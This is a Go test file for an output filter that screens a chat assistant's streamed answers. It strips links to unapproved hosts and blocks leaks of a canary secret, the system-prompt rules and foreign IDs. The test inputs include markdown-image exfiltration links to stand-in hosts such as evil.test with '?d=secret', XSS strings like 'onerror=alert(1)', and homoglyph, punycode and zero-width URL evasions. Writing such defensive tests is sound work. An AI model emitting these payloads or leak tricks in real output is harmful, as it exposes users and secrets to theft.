package filter

import (
	"errors"
	"strings"
	"testing"

	"github.com/uniqchat/uniqchat/ai/knowledge"
	"github.com/uniqchat/uniqchat/ai/model"
	"github.com/uniqchat/uniqchat/ai/prompt"
)

// Ids: in the visitor's question; in a document's text, not of our kind; in links of a document; and in its text, of our kind.
const (
	own     = "0198c0de-1111-7222-8333-444455556666"
	product = "3f2504e0-4f89-41d3-9a0c-0305e82c3301"
	file    = "d41d8cd98f00b204e9800998ecf8427e"
	page    = "0198c0de-5555-7222-8333-444455556666"
	written = "0198c0de-6666-7222-8333-444455556666"
)

func asked() *model.Question {
	return &model.Question{
		Text: "is order " + own + " there?", Secrets: model.Secrets{Canary: "qzxcanary7bwordk", Fence: "mfencewpqz3again"},
		Chunks: []model.Chunk{{Chunk: &knowledge.Chunk{Text: "See https://Shop.test/Returns/ or [the form](https://shop.test/form?a=1). Write to help@shop.test. 请访问shop.test/zh查看。 [home](/)"}}, {
			Chunk: &knowledge.Chunk{Text: "Part " + product + " has [a manual](https://shop.test/files/" + file + ".pdf), and see https://shop.test/p/" + page + "/about. Tenant " + written + " has it."},
		}},
	}
}

// through sends a text through a gate in pieces of a size.
func through(s string, size int, hosts ...string) (string, *Gate, error) {
	q := asked()
	g := NewGate(NewAllowed(q, hosts), q.Secrets)
	var out strings.Builder
	r := []rune(s)
	for len(r) > 0 {
		n := min(size, len(r))
		p, err := g.Write(string(r[:n]))
		out.WriteString(p)
		if err != nil {
			return out.String(), g, err
		}
		r = r[n:]
	}
	p, err := g.Close()
	out.WriteString(p)
	return out.String(), g, err
}

func TestClean(t *testing.T) {
	for in, want := range map[string]string{
		"Plain **bold** text.\n\n1. one\n2. two":                            "Plain **bold** text.\n\n1. one\n2. two",
		"See https://shop.test/Returns.":                                    "See https://shop.test/Returns.",
		"See [here](https://shop.test/form?a=1 \"form\") now":               "See [here](https://shop.test/form?a=1 \"form\") now",
		"Write to help@shop.test, please":                                   "Write to help@shop.test, please",
		"请看shop.test/zh，谢谢。":                                                "请看shop.test/zh，谢谢。",
		"See [here](https://evil.test/x) now":                               "See here now",
		"See [he re](https://evil.test/x \"a b\") now":                      "See he re now",
		"See https://evil.test/x?q=1 now":                                   "See  now",
		"See www.evil.test now":                                             "See  now",
		"请看evil.com/zh，谢谢。":                                                 "请看，谢谢。",
		"Write to steal@evil.com now":                                       "Write to  now",
		"![x](https://evil.test/p.png?d=secret) ok":                         "x ok",
		"[![x](https://evil.test/p.png)](https://evil.test) ok":             "x ok",
		"![x][ref] ok\n\n[ref]: https://evil.test/p.png":                    "[x][ref] ok\n\n[ref]: ",
		"<img src=x onerror=alert(1)> ok":                                   " ok",
		"<script>alert(1)</script> ok":                                      "alert(1) ok",
		"<https://shop.test/Returns> ok":                                    "https://shop.test/Returns ok",
		"<https://evil.test/> ok":                                           " ok",
		"[x](javascript:alert(1)) ok":                                       "x ok",
		"[x](data:text/html;base64,AAAA) ok":                                "x ok",
		"a < b and c > d":                                                   "a < b and c > d",
		"ht<b>tps://ev</b>il.test/x ok":                                     " ok",
		"[x](y)[z](//evil.test/p) ok":                                       "xz ok",
		"https://evil[x](y).test/p ok":                                      " ok",
		"ｈｔｔｐｓ：//ｅｖｉｌ．ｃｏｍ/x ok":                                             "ｈ ok",
		"h\u200bttps://evil\u2060.com/x \u202eok":                           " ok",
		"list [1] and [ ] and (x) ok":                                       "list [1] and [ ] and (x) ok",
		"[open bracket that never ends":                                     "[open bracket that never ends",
		"tags \U000E0041\U000E0042 ok 👩\u200d👩":                             "tags  ok 👩\u200d👩",
		"https://shop.test.evil.com/Returns and https://shop.test@evil.com": " and ",
		"еvil.com and xn--vil-qla.com":                                      " and ",
	} {
		if strings.HasPrefix(in, "ｈｔｔｐｓ：") {
			want = "" // checked below: nothing that links may stay
		}
		for _, size := range []int{1, 2, 7, 1000} {
			got, _, err := through(in, size)
			if err != nil {
				t.Errorf("%q in %d: %v", in, size, err)
			}
			if want == "" {
				if strings.Contains(got, "evil") {
					t.Errorf("%q in %d: %q", in, size, got)
				}
			} else if got != want {
				t.Errorf("%q in %d: %q, want %q", in, size, got, want)
			}
		}
	}
	if got, _, _ := through("https://www.brand.com/a and https://brand.com.evil.com and ftp://brand.com", 3, "brand.com"); got != "https://www.brand.com/a and  and " {
		t.Errorf("%q", got)
	}
}

func TestLeaks(t *testing.T) {
	spaced := strings.Join(strings.Split("qzxcanary7bwordk", ""), " ")
	for name, s := range map[string]string{
		"plain": "It is qzxcanary7bwordk.", "upper": "QZXCANARY7BWORDK", "spaced": spaced, "dashed": strings.ReplaceAll(spaced, " ", "-\n"), "part": "begins with canary7bwo",
		"reversed": "kdrowb7yranacxzq", "rot13": "dmkpnanel7objbeqx", "fence": "===mfencewpqz3again end===", "hex": "717a7863616e617279376277", "base64": "cXp4Y2FuYXJ5N2J3b3Jkaw==",
		"invisible": "qzxca\u200bnary7bwordk", "wide": "ｑｚｘｃａｎａｒｙ７ｂｗｏｒｄｋ",
		"instructions": "My rules: " + prompt.Rules()[100:260],
	} {
		for _, size := range []int{1, 5, 1000} {
			if got, g, err := through("Sure. "+s+" That is all.", size); !errors.Is(err, ErrLeak) || strings.Contains(got, "all") {
				t.Errorf("%s in %d: %q, %v", name, size, got, err)
			} else if p, err := g.Write("more"); p != "" || err == nil {
				t.Errorf("%s: the gate opened again", name)
			}
		}
	}
	for name, s := range map[string]string{
		"of our kind, in a document": "Tenant " + written + " has it.", "of a link, without the link": "It is " + page + ".", "beside a link": "https://shop.test/Returns " + written,
		"in another link": "https://shop.test/p/" + written, "in a link of a host": "https://brand.com/p/" + written, "in a link's words": "[" + page + "](https://shop.test/p/" + page + "/about)",
		"in a link's title": "[x](https://shop.test/p/" + page + "/about \"" + page + "\")", "brought together": "0198c0de-<b>aaaa-7222-8333-4444</b>55556666", "in an empty link's words": "[0198c0de-aaaa-7222-8333-444455556666]()", "in halves": "See https://brand.com/0198c0de-aaaa-7222-8333 444455556666 now",
		"in an unknown link": "https://evil.test/" + page,
		"other id":           "Tenant 0198c0de-aaaa-7222-8333-444455556666 has it.", "without groups": "0198C0DEAAAA72228333444455556666", "spaced": "0198c0de aaaa 7222 8333 444455556666",
	} {
		for _, size := range []int{1, 5, 1000} {
			if _, _, err := through(s, size, "brand.com"); !errors.Is(err, ErrForeign) {
				t.Errorf("%s in %d: %v", name, size, err)
			}
		}
	}
	if got, _, err := through("Yes, "+own+" is there.", 3); err != nil || !strings.Contains(got, own) {
		t.Errorf("%q, %v", got, err)
	}
}

// TestKnownIDs: what the documents have of ids of other systems may be said, and their links have whatever ids they have.
func TestKnownIDs(t *testing.T) {
	for _, s := range []string{
		"It is part " + product + ".", "It is " + strings.ToUpper(strings.ReplaceAll(product, "-", "")) + " then", "See [the manual](https://shop.test/files/" + file + ".pdf) for it",
		"请看https://shop.test/p/" + page + "/about。", "<https://shop.test/files/" + file + ".pdf> has", "See https://brand.com/p/" + page + " or " + product,
	} {
		want := strings.NewReplacer("<", "", ">", "").Replace(s)
		for _, size := range []int{1, 7, 1000} {
			if got, _, err := through(s, size, "brand.com"); err != nil || got != want {
				t.Errorf("%q in %d: %q, %v", s, size, got, err)
			}
		}
	}
}

// TestWords: what can be shown is shown when it comes, not at the end.
func TestWords(t *testing.T) {
	q := asked()
	g := NewGate(NewAllowed(q, nil), q.Secrets)
	for _, step := range [][2]string{{"Hello", ""}, {" you, [se", "Hello you, "}, {"e](https:", ""}, {"//shop.test/Returns) or", "[see](https://shop.test/Returns) "}, {" 你好", "or 你好"}} {
		if got, err := g.Write(step[0]); err != nil || got != step[1] {
			t.Errorf("%q: %q, want %q (%v)", step[0], got, step[1], err)
		}
	}
	big := "[" + strings.Repeat("word ", 400)
	if got, _, _ := through(big, 10); strings.Count(got, "word") != 400 {
		t.Error("words were lost")
	}
}

// FuzzGate: nothing that links out comes through, however it is cut.
func FuzzGate(f *testing.F) {
	f.Add("a [b](https://evil.com) <b> www.evil.com", 3)
	f.Add("![a](b)[", 1)
	f.Fuzz(func(t *testing.T, s string, size int) {
		if size < 1 || len(s) > 2000 || !strings.Contains(s, "evil.com") {
			return
		}
		got, g, err := through(s, size)
		if err != nil {
			return
		}
		if again := g.allowed.clean(got, func(string) {}); strings.Contains(again, "https://evil.com") || strings.Contains(got, "https://evil.com") {
			t.Errorf("%q became %q", s, got)
		}
		for _, m := range markdownLink.FindAllStringSubmatch(got, -1) {
			if bareLink.MatchString(m[2]) && !g.allowed.link(m[2]) { // what names no server leads to none
				t.Errorf("%q became %q", s, got)
			}
		}
	})
}
